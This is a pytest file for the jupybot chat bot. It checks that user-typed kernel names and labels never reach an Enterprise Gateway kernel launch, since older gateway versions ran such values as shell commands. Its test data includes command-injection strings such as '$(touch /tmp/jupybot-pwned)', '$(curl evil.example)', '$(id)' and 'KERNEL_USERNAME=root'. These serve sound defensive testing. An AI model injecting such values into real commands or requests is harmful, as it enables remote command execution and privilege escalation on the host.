"""Nothing a chat user typed reaches the gateway's kernel launch: kernel names beyond the specs
the gateway lists never leave jupybot, and a kernel is started with its spec's name and nothing
else (no `env`, so no `KERNEL_*` variable). Enterprise Gateway up to 3.3.0 turned such values into
shell commands when it launched kernels over SSH. Checked on the bytes that reach a real
Enterprise Gateway through a recording proxy."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator, Iterator
from urllib.parse import quote

import pytest
import pytest_twisted
from twisted.internet import reactor

from jupybot.commands import AccessPolicy, Addressing, ChatCommands, ChatNetwork, IncomingMessage
from jupybot.config.kernels import GatewayConfig
from jupybot.kernels import GatewayKernelManager, UnknownKernelSpec
from tests.commands.fakes import FakeConversation
from tests.kernels.listener import RecordingListener
from tests.kernels.recording_proxy import RecordingProxy
from tests.peers.enterprise_gateway import EnterpriseGateway

# Each would run a command if it were pasted into a shell line, or set the kernel's user or id.
HOSTILE_SPECS = [
    "python3; touch /tmp/jupybot-pwned",
    "$(touch /tmp/jupybot-pwned)",
    "`touch /tmp/jupybot-pwned`",
    "python3\nKERNEL_USERNAME=root",
    "python3 --KernelManager.ip=0.0.0.0",
    "../../../../usr/bin/python3",
    "KERNEL_USERNAME=root",
    "python3-evil",
]
HOSTILE_LABEL = "$(curl evil.example)"
ALICE = "@alice:example.org"


@pytest.fixture
def proxy(enterprise_gateway: EnterpriseGateway) -> Iterator[RecordingProxy]:
    recording = RecordingProxy(enterprise_gateway.url)
    yield recording
    recording.close()


@pytest_twisted.async_yield_fixture()
async def manager(
    proxy: RecordingProxy, enterprise_gateway: EnterpriseGateway
) -> AsyncIterator[GatewayKernelManager]:
    manager = GatewayKernelManager(reactor, GatewayConfig(url=None, token=None))
    manager.connect(proxy.url, enterprise_gateway.token)
    yield manager
    await manager.shutdown_all()


def forms(value: str) -> list[bytes]:
    """C{value} as it could appear in a request: raw, JSON-escaped, URL-quoted."""
    return [value.encode(), json.dumps(value)[1:-1].encode(), quote(value).encode()]


def kernel_start_bodies(sent: bytes) -> list[object]:
    """The JSON body of every `POST .../api/kernels` in the recorded bytes."""
    bodies = []
    for match in re.finditer(rb"POST (\S*)/api/kernels HTTP/1\.1\r\n(.*?)\r\n\r\n", sent, re.S):
        length = re.search(rb"(?i)content-length: (\d+)", match.group(2))
        assert length is not None, match.group(0)
        start = match.end()
        bodies.append(json.loads(sent[start : start + int(length.group(1))]))
    return bodies


def assert_never_sent(sent: bytes, values: list[str]) -> None:
    for value in values:
        for form in forms(value):
            assert form not in sent, f"{value!r} reached the gateway"


@pytest_twisted.ensureDeferred
async def test_hostile_kernel_names_never_reach_the_gateway(
    manager: GatewayKernelManager, proxy: RecordingProxy
) -> None:
    for spec in HOSTILE_SPECS:
        with pytest.raises(UnknownKernelSpec, match="available: python3"):
            await manager.start("room", spec)
    # The owner's label for a kernel stays in jupybot.
    handle = await manager.start("room", "python3", name=HOSTILE_LABEL)
    assert handle.name == HOSTILE_LABEL
    listener = RecordingListener()
    result = await manager.execute("room", "print('fine')", listener)
    assert result.status == "ok" and listener.text() == "fine\n"
    sent = proxy.received()
    assert_never_sent(sent, [*HOSTILE_SPECS, HOSTILE_LABEL])
    # One kernel started, with the listed spec's name and no environment.
    assert kernel_start_bodies(sent) == [{"name": "python3"}]
    assert b"KERNEL_" not in sent


@pytest_twisted.ensureDeferred
async def test_kernel_names_typed_in_a_chat_never_reach_the_gateway(
    manager: GatewayKernelManager, proxy: RecordingProxy
) -> None:
    bot = ChatCommands(
        manager,
        ChatNetwork(
            AccessPolicy.build(["*:example.org"], [], []), Addressing(prefixes=("!jupybot",))
        ),
        reactor,
    )
    room = FakeConversation()
    typed = [
        "!jupybot start python3-evil as mine-7f3a",  # a name the command layer lets through
        "!jupybot start KERNEL_USERNAME=root",  # one it refuses itself
        "!jupybot start $(id)",
        "!jupybot start python3 as work-5e1c",
        "!jupybot run print('from chat')",
    ]
    for number, text in enumerate(typed):
        await bot.handle(IncomingMessage(f"$m{number}", ALICE, text, room))
    texts = room.texts()
    assert "no kernel type 'python3-evil'" in texts[0] and "python3" in texts[0]
    assert "Started kernel 'work-5e1c' (python3)" in "\n".join(texts)
    assert any("from chat" in text for text in texts)
    sent = proxy.received()
    assert_never_sent(
        sent, ["python3-evil", "mine-7f3a", "KERNEL_USERNAME=root", "$(id)", "work-5e1c"]
    )
    assert kernel_start_bodies(sent) == [{"name": "python3"}]
